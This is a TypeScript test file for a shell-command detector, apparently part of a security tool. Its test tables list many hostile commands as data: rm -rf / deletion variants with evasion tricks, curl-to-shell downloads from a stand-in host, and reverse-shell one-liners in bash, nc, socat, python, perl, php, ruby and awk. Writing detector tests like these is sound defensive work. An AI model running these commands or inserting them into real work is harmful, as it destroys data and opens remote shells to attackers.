// Known-answer tests for the shell detector: one named test per evasion trick, benign near-misses, limits and properties.
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { MAX_SHELL_LENGTH, detectShell, loadShellParser } from '../src/detectors/shell.js';
import type { ShellFacts, ShellParser } from '../src/detectors/shell.js';
import { ZtError } from '../src/errors.js';

let shell: ShellParser;
beforeAll(async () => {
  shell = await loadShellParser();
});

const detect = (command: string): ShellFacts => detectShell(command, shell);

describe('detectShell: facts shape', () => {
  it('reports a benign command with every fact', () => {
    expect(detect('ls -la /tmp')).toEqual({
      parseError: false,
      commands: ['ls'],
      dynamicCommand: false,
      recursiveDeleteOfRoot: false,
      pipesDownloadToShell: false,
      reverseShell: false,
      dangerous: false,
    });
  });

  it('loads the grammar once and shares it', async () => {
    expect(await loadShellParser()).toBe(shell);
  });

  it('lists commands in pipelines, lists, subshells, $(…), backticks and process substitutions', () => {
    const f = detect('a | b && (c; d) || e $(f) `g` <(h) >(i)');
    expect(f.commands).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i']);
  });

  it('lists commands behind wrappers by basename', () => {
    expect(detect('sudo -u root env X=1 timeout 5 /usr/bin/ls').commands).toEqual([
      'sudo',
      'env',
      'timeout',
      'ls',
    ]);
  });

  it('lists commands inside bash -c and sh -c strings', () => {
    expect(detect('bash -c \'whoami; sh -c "id"\'').commands).toEqual([
      'bash',
      'whoami',
      'sh',
      'id',
    ]);
  });

  it('lists commands inside eval', () => {
    expect(detect('eval "uname -a"').commands).toEqual(['eval', 'uname']);
  });

  it('flags a program name computed at run time', () => {
    expect(detect('$cmd -rf /').dynamicCommand).toBe(true);
    expect(detect('$(echo rm) -rf /').dynamicCommand).toBe(true);
  });

  it('unparsable input is a fact: unterminated quote', () => {
    expect(detect("echo 'unterminated").parseError).toBe(true);
  });

  it('unparsable nested sh -c string is a parse error', () => {
    expect(detect("sh -c 'echo \"oops'").parseError).toBe(true);
  });

  it('nesting deeper than the limit is a parse error', () => {
    let cmd = 'id';
    for (let i = 0; i < 6; i++) cmd = `sh -c ${JSON.stringify(cmd)}`;
    expect(detect(cmd).parseError).toBe(true);
  });
});

describe('detectShell: recursive delete of root', () => {
  it.each([
    ['rm -rf /'],
    ['rm -rf /*'],
    ['rm -rf ~'],
    ['rm -rf ~/*'],
    ['rm -fr --no-preserve-root /'],
    ['rm -r -f /'],
    ['rm -R /'],
    ['rm --recursive --force /'],
    ['rm -rf -- /'],
    ['rm -rf //'],
    ['rm -rf /./'],
    ['rm -rf /..'],
    ['rm -rf /usr'],
    ['rm -rf $HOME'],
    ['rm -rf "${HOME}"/*'],
    ['rm -rf "$STEAMROOT/"*'],
    ['/bin/rm -rf /'],
    ['sudo rm -rf /'],
    ['sudo -u root env X=1 nice -n 5 rm -rf /'],
    ['r\\m -rf /'],
    ["'rm' -rf '/'"],
    ['"rm" -rf "/"'],
    ["$'\\x72m' -rf /"],
    ['cd /tmp && rm -rf /'],
    ['true; rm -rf /'],
    ['(rm -rf /)'],
    ['echo $(rm -rf /)'],
    ['if true; then rm -rf /; fi'],
    ["bash -c 'rm -rf /'"],
    ['sh -c "rm -rf /"'],
    ["sudo sh -c 'rm -rf /'"],
    ['eval "rm -rf /"'],
    ['eval rm -rf /'],
    ["echo 'rm -rf /' | sh"],
    ['find / -delete'],
    ['find ~ -type f -delete'],
    ['find / -exec rm -rf {} +'],
  ])('%s', (cmd) => {
    const f = detect(cmd);
    expect(f.recursiveDeleteOfRoot).toBe(true);
    expect(f.dangerous).toBe(true);
  });
});

describe('detectShell: download piped to a shell', () => {
  it.each([
    ['curl -fsSL https://x.example/i.sh | sh'],
    ['curl https://x.example/i.sh | bash'],
    ['wget -qO- https://x.example/i.sh | sudo bash'],
    ['curl -s https://x.example/i.py | python3'],
    ['curl -s https://x.example/i.sh | tee /tmp/log | zsh'],
    ['curl https://x.example/i.sh | (cd /tmp && sh)'],
    ['bash <(curl -s https://x.example/i.sh)'],
    ['source <(curl -s https://x.example/i.sh)'],
    ['. <(wget -qO- https://x.example/i.sh)'],
    ['sh -c "$(curl -fsSL https://x.example/i.sh)"'],
    ['bash -c "$(wget -O- https://x.example/i.sh)"'],
    ['eval "$(curl -s https://x.example/i.sh)"'],
    ['sh <<< "$(curl -s https://x.example/i.sh)"'],
    ['bash < <(curl -s https://x.example/i.sh)'],
    ['$(curl -s https://x.example/cmd)'],
    ['`curl -s https://x.example/cmd`'],
    ["bash -c 'curl -s https://x.example/i.sh | sh'"],
    ['/usr/bin/curl https://x.example/i.sh | /bin/sh'],
  ])('%s', (cmd) => {
    const f = detect(cmd);
    expect(f.pipesDownloadToShell).toBe(true);
    expect(f.dangerous).toBe(true);
  });
});

describe('detectShell: reverse shells', () => {
  it.each([
    ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'],
    ['sh -i >& /dev/udp/10.0.0.1/4242 0>&1'],
    ['exec 5<>/dev/tcp/10.0.0.1/4242'],
    ['0<&196; exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196'],
    ['nc -e /bin/sh 10.0.0.1 4242'],
    ['nc 10.0.0.1 4242 -e /bin/bash'],
    ['nc -lvnpe /bin/sh 4242'],
    ['ncat --exec /bin/bash 10.0.0.1 4242'],
    ['ncat 10.0.0.1 4242 --sh-exec "bash -i"'],
    ['rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f'],
    ['mknod /tmp/p p && nc 10.0.0.1 4242 0</tmp/p | /bin/sh 1>/tmp/p'],
    ['socat TCP:10.0.0.1:4242 EXEC:/bin/sh'],
    ['socat tcp-connect:10.0.0.1:4242 exec:"bash -li",pty,stderr'],
    ['telnet 10.0.0.1 4242 | /bin/sh | telnet 10.0.0.1 4243'],
    [
      'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
    ],
    [
      'python -c \'import socket,pty,os;s=socket.socket();s.connect(("10.0.0.1",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
    ],
    [
      'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");\'',
    ],
    ['php -r \'$s=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");\''],
    [
      'ruby -rsocket -e \'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
    ],
    ['awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while (1) {s |& getline c; print c |& s}}\''],
    ["bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'"],
  ])('%s', (cmd) => {
    const f = detect(cmd);
    expect(f.reverseShell).toBe(true);
    expect(f.dangerous).toBe(true);
  });

  it('the read-write redirect <> is outside the grammar: still flagged, and a parse error', () => {
    expect(detect('exec 5<>/dev/tcp/10.0.0.1/4242')).toMatchObject({
      parseError: true,
      reverseShell: true,
    });
  });
});

describe('detectShell: benign near-misses', () => {
  it.each([
    ['rm -rf ./build'],
    ['rm -rf build/ dist/'],
    ['rm -rf /tmp/build'],
    ['rm -f /*.log'],
    ['rm -rf "$BUILD_DIR"'],
    ['rm -rf ~/project/node_modules'],
    ['curl -o file https://x.example/f'],
    ['curl -s https://x.example/f | jq .name'],
    ['wget https://x.example/f && sha256sum f'],
    ['echo "rm -rf /"'],
    ["echo 'curl x | sh'"],
    ['printf "%s\\n" "bash -i >& /dev/tcp/1.2.3.4/80"'],
    ['grep -r "rm -rf /" .'],
    ['git commit -m "fix: rm -rf / guard"'],
    ['find . -name "*.o" -delete'],
    ['find /tmp/x -type f -exec rm {} +'],
    ['nc -zv example.com 443'],
    ['cat /dev/tcp.txt'],
    ['python3 -c "print(1)"'],
    ['bash -c "make test"'],
    ['ls | sh_lint'],
  ])('%s', (cmd) => {
    const f = detect(cmd);
    expect(f.parseError, 'parseError').toBe(false);
    expect(f.dangerous, JSON.stringify(f)).toBe(false);
  });
});

describe('detectShell: limits and misuse', () => {
  it('rejects text over the size limit with ZtError detector-limit', () => {
    const text = 'echo ' + 'a'.repeat(MAX_SHELL_LENGTH);
    let caught: unknown;
    try {
      detect(text);
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(ZtError);
    expect((caught as ZtError).code).toBe('detector-limit');
  });

  it('accepts text exactly at the size limit', () => {
    expect(detect('echo ' + 'a'.repeat(MAX_SHELL_LENGTH - 5)).parseError).toBe(false);
  });

  it('throws TypeError for a non-string (caller misuse)', () => {
    expect(() => detect(42 as unknown as string)).toThrow(TypeError);
  });

  it('turns deep nesting into a fact, not a crash', () => {
    const deep = '$('.repeat(10_000) + 'id' + ')'.repeat(10_000);
    expect(typeof detect(deep).parseError).toBe('boolean');
  });
});

describe('detectShell: properties', () => {
  const shellish = fc.oneof(
    fc.string({ maxLength: 200 }),
    fc.string({ unit: 'grapheme', maxLength: 100 }),
    fc
      .array(
        fc.constantFrom(
          'rm',
          '-rf',
          '/',
          'curl',
          'x',
          '|',
          'sh',
          'bash',
          '-c',
          "'",
          '"',
          '$(',
          ')',
          '`',
          '<(',
          '>&',
          '/dev/tcp/1/2',
          ';',
          '&&',
          '\\',
          'eval',
          'sudo',
          '~',
          '$HOME',
          ' ',
          '\n',
        ),
        { maxLength: 30 },
      )
      .map((parts) => parts.join(' ')),
  );

  it('never throws on arbitrary strings within the limit', () => {
    fc.assert(
      fc.property(shellish, (text) => {
        detect(text);
      }),
      { numRuns: 500 },
    );
  });

  it('is deterministic', () => {
    fc.assert(
      fc.property(shellish, (text) => {
        expect(detect(text)).toEqual(detect(text));
      }),
      { numRuns: 200 },
    );
  });

  it('dangerous is exactly the disjunction of the three findings', () => {
    fc.assert(
      fc.property(shellish, (text) => {
        const f = detect(text);
        expect(f.dangerous).toBe(
          f.recursiveDeleteOfRoot || f.pipesDownloadToShell || f.reverseShell,
        );
      }),
      { numRuns: 200 },
    );
  });
});
